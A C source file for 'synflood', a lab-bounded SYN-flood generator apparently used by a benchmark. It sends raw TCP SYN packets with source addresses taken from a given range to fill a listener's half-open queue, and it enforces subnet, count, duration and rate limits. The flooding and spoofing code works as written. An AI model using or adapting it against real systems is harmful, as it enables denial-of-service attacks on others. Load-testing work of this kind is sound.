// SPDX-License-Identifier: GPL-2.0
/*
 * synflood: a bounded SYN flood for bench/synflood.ts, run on one lab host against another's
 * listener. Sends at most --count SYNs, for at most --seconds, at --rate per second, with source
 * addresses drawn from --src-from..--src-to (unused addresses of the lab's own subnet: the victim's
 * SYN-ACKs go nowhere, so its half-open requests stay until they time out, as in a real flood, and
 * no packet leaves the lab bridge). Refuses any destination or source outside --allow NET/PREFIX.
 *
 * usage: synflood --dst ADDR --port P --src-from ADDR --src-to ADDR --allow NET/PREFIX
 *                 [--count N] [--seconds S] [--rate PPS]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint16_t csum(const void *data, size_t len, uint32_t sum)
{
	const uint16_t *p = data;
	for (; len > 1; len -= 2)
		sum += *p++;
	if (len)
		sum += *(const uint8_t *)p;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static uint32_t addr(const char *s, const char *what)
{
	struct in_addr a;
	if (!s || inet_pton(AF_INET, s, &a) != 1) {
		fprintf(stderr, "synflood: %s: not an IPv4 address\n", what);
		exit(2);
	}
	return ntohl(a.s_addr);
}

int main(int argc, char **argv)
{
	const char *dst_s = NULL, *from_s = NULL, *to_s = NULL, *allow_s = NULL;
	long count = 100000, port = 0, rate = 20000;
	double seconds = 5;

	for (int i = 1; i + 1 < argc; i += 2) {
		const char *k = argv[i], *v = argv[i + 1];
		if (!strcmp(k, "--dst")) dst_s = v;
		else if (!strcmp(k, "--port")) port = atol(v);
		else if (!strcmp(k, "--src-from")) from_s = v;
		else if (!strcmp(k, "--src-to")) to_s = v;
		else if (!strcmp(k, "--allow")) allow_s = v;
		else if (!strcmp(k, "--count")) count = atol(v);
		else if (!strcmp(k, "--seconds")) seconds = atof(v);
		else if (!strcmp(k, "--rate")) rate = atol(v);
		else {
			fprintf(stderr, "synflood: unknown option %s\n", k);
			return 2;
		}
	}
	if (!allow_s || !strchr(allow_s, '/') || port < 1 || port > 65535 || count < 1 || count > 10000000 || seconds <= 0 || seconds > 60 || rate < 1 || rate > 1000000) {
		fprintf(stderr, "usage: synflood --dst ADDR --port P --src-from ADDR --src-to ADDR --allow NET/PREFIX [--count N<=1e7] [--seconds S<=60] [--rate PPS]\n");
		return 2;
	}
	char net_s[64];
	snprintf(net_s, sizeof(net_s), "%.*s", (int)(strchr(allow_s, '/') - allow_s), allow_s);
	int prefix = atoi(strchr(allow_s, '/') + 1);
	uint32_t net = addr(net_s, "--allow"), mask = prefix <= 0 ? 0 : 0xffffffffu << (32 - prefix);
	uint32_t dst = addr(dst_s, "--dst"), from = addr(from_s, "--src-from"), to = addr(to_s, "--src-to");
	/* lab addresses only: the destination and every source inside the allowed subnet, never /0 */
	if (prefix < 24 || prefix > 32 || (dst & mask) != (net & mask) || (from & mask) != (net & mask) || (to & mask) != (net & mask) || to < from) {
		fprintf(stderr, "synflood: --dst and --src-from..--src-to must lie in --allow %s (a /24 or smaller)\n", allow_s);
		return 2;
	}
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("synflood: raw socket");
		return 1;
	}
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(dst) };
	unsigned char pkt[sizeof(struct iphdr) + sizeof(struct tcphdr)];
	struct iphdr *ip = (struct iphdr *)pkt;
	struct tcphdr *tcp = (struct tcphdr *)(pkt + sizeof(*ip));
	struct {
		uint32_t src, dst;
		uint8_t zero, proto;
		uint16_t len;
		struct tcphdr tcp;
	} pseudo;
	uint32_t rnd = (uint32_t)time(NULL) ^ (uint32_t)getpid();
	long sent = 0, failed = 0;
	double t0 = now();

	while (sent < count && now() - t0 < seconds) {
		/* pace: never ahead of rate * elapsed */
		if (sent >= (long)((now() - t0) * rate)) {
			usleep(200);
			continue;
		}
		rnd = rnd * 1103515245u + 12345u;
		memset(pkt, 0, sizeof(pkt));
		ip->ihl = 5;
		ip->version = 4;
		ip->ttl = 64;
		ip->protocol = IPPROTO_TCP;
		ip->tot_len = htons(sizeof(pkt));
		ip->saddr = htonl(from + (rnd >> 8) % (to - from + 1));
		ip->daddr = htonl(dst);
		tcp->source = htons(1024 + (rnd >> 4) % 60000);
		tcp->dest = htons((uint16_t)port);
		tcp->seq = htonl(rnd);
		tcp->doff = 5;
		tcp->syn = 1;
		tcp->window = htons(64240);
		pseudo.src = ip->saddr;
		pseudo.dst = ip->daddr;
		pseudo.zero = 0;
		pseudo.proto = IPPROTO_TCP;
		pseudo.len = htons(sizeof(*tcp));
		pseudo.tcp = *tcp;
		tcp->check = csum(&pseudo, sizeof(pseudo), 0);
		if (sendto(fd, pkt, sizeof(pkt), 0, (struct sockaddr *)&sa, sizeof(sa)) < 0)
			failed++;
		sent++;
	}
	printf("{\"sent\":%ld,\"failed\":%ld,\"seconds\":%.3f}\n", sent, failed, now() - t0);
	return 0;
}
